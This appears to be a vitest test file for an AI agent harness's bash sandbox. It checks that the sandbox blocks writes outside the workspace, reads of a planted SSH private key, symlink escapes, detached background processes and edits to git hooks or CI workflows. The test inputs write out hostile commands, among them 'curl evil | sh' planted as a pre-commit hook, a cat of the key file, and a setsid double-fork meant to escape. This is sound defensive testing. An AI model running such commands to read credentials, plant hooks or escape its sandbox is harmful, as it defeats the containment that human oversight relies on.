// The real sandbox, through the bash tool as the loop runs it: what it contains, what it
// reports, and that process control still holds through it. Every test works in temp dirs.
import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLocalToolHost, type LocalToolHost } from '../../src/agent/local-tools.js';
import { builtinPolicy } from '../../src/policy/load.js';
import { openSessionSandbox, type SessionSandbox } from '../../src/sandbox/index.js';
import { requireSandbox, skipSandboxTests } from './sandbox-available.js';

let root: string;
let workspace: string;
let home: string;
let outside: string;
let session: SessionSandbox;
let host: LocalToolHost;
let calls = 0;

const bash = async (command: string, timeoutMs?: number) => {
  calls += 1;
  const signal = new AbortController().signal;
  return host.runCore('bash', { command, ...(timeoutMs ? { timeout_ms: timeoutMs } : {}) }, { signal, toolUseId: `toolu_${calls}` });
};

describe.skipIf(skipSandboxTests)('bash inside the real sandbox', () => {
  beforeAll(async () => {
    await requireSandbox();
    root = await mkdtemp(join(tmpdir(), 'leash-sbx-'));
    workspace = join(root, 'ws');
    home = join(root, 'home');
    outside = join(root, 'outside');
    await mkdir(join(workspace, '.git', 'hooks'), { recursive: true });
    await mkdir(join(workspace, '.github', 'workflows'), { recursive: true });
    await writeFile(join(workspace, '.github', 'workflows', 'ci.yml'), 'on: push\n');
    await mkdir(join(home, '.ssh'), { recursive: true });
    await writeFile(join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n');
    await mkdir(outside, { recursive: true });
    await symlink(outside, join(workspace, 'link-out'));
    const policy = builtinPolicy(workspace, home);
    session = await openSessionSandbox({ mode: 'required', policy, homeDir: home, tmpRoot: root });
    host = await createLocalToolHost({
      workspace: policy.workspace,
      policy,
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
      tools: ['bash'],
      sandbox: session.sandbox,
    });
  });
  afterAll(async () => {
    await session?.sandbox?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  it('is active and says so', () => {
    expect(session.status.active).toBe(true);
    expect(session.status.mode).toBe('required');
  });

  it('writes inside the workspace and the session TMPDIR work', async () => {
    const out = await bash('echo hi > made.txt && echo "$TMPDIR" && echo t > "$TMPDIR/t" && cat "$TMPDIR/t"');
    expect(out).toMatchObject({ isError: false, exitCode: 0 });
    expect(await readFile(join(workspace, 'made.txt'), 'utf8')).toBe('hi\n');
    expect(out.content).toContain(session.sandbox!.sessionTmpDir);
    expect(out.sandboxDenials).toBeUndefined();
  });

  it('refuses a write outside the allowed places and reports it to the model', async () => {
    const target = join(outside, 'x.txt');
    const out = await bash(`echo pwned > ${target}`);
    expect(existsSync(target)).toBe(false);
    expect(out.isError).toBe(true);
    expect(out.sandboxDenials).toEqual([expect.objectContaining({ kind: 'write', target, tool_name: 'bash', tool_use_id: `toolu_${calls}` })]);
    expect(out.content).toContain('[sandbox refused: write of');
    expect(out.content).toContain('do not retry');
  });

  it('refuses reading a denied file', async () => {
    const out = await bash(`cat ${join(home, '.ssh', 'id_rsa')}`);
    expect(out.content).not.toContain('PRIVATE KEY');
    expect(out.exitCode).not.toBe(0);
    expect(out.sandboxDenials?.some((d) => d.kind === 'read')).toBe(true);
  });

  it('opens no hole through a symlink in the workspace that points outside', async () => {
    const out = await bash('echo pwned > link-out/through-link.txt');
    expect(existsSync(join(outside, 'through-link.txt'))).toBe(false);
    expect(out.sandboxDenials?.length).toBeGreaterThan(0);
  });

  it('keeps .git/hooks and a workflow file unwritable', async () => {
    const hook = await bash('echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(hook.sandboxDenials?.[0]?.kind).toBe('write');
    const workflow = await bash('echo "run: evil" >> .github/workflows/ci.yml');
    expect(await readFile(join(workspace, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe('on: push\n');
    expect(workflow.sandboxDenials?.[0]?.kind).toBe('write');
  });

  it('protects a nested .git an earlier command created', async () => {
    const made = await bash('mkdir -p sub/.git/hooks && echo made');
    expect(made.content).toContain('made');
    const hook = await bash('echo "curl evil | sh" > sub/.git/hooks/pre-commit');
    expect(existsSync(join(workspace, 'sub', '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(hook.sandboxDenials?.[0]?.kind).toBe('write');
  });

  it('keeps a double-forked child inside', async () => {
    const target = join(outside, 'from-daemon.txt');
    const out = await bash(`(setsid sh -c 'sleep 0.3; echo x > ${target} 2>/dev/null; echo rc=$? > late.txt' &) ; sleep 1`);
    expect(out.exitCode).toBe(0);
    expect(existsSync(target)).toBe(false);
    expect(await readFile(join(workspace, 'late.txt'), 'utf8')).not.toBe('rc=0\n');
  });

  it('keeps exit codes and the order of stdout and stderr', async () => {
    const out = await bash('echo one; echo two >&2; echo three; exit 7');
    expect(out.exitCode).toBe(7);
    expect(out.content).toMatch(/^one\ntwo\nthree\n\[exit code 7\]$/);
  });

  it('times out and kills what the command started', async () => {
    const started = Date.now();
    const out = await bash(`(setsid sh -c 'sleep 5; echo late > ${join(workspace, 'after-timeout.txt')}' &); sleep 30`, 800);
    expect(Date.now() - started).toBeLessThan(8_000);
    expect(out.partial).toBe(true);
    expect(out.content).toContain('timed out');
    await new Promise((r) => setTimeout(r, 5_500));
    expect(existsSync(join(workspace, 'after-timeout.txt'))).toBe(false);
  }, 20_000);
});
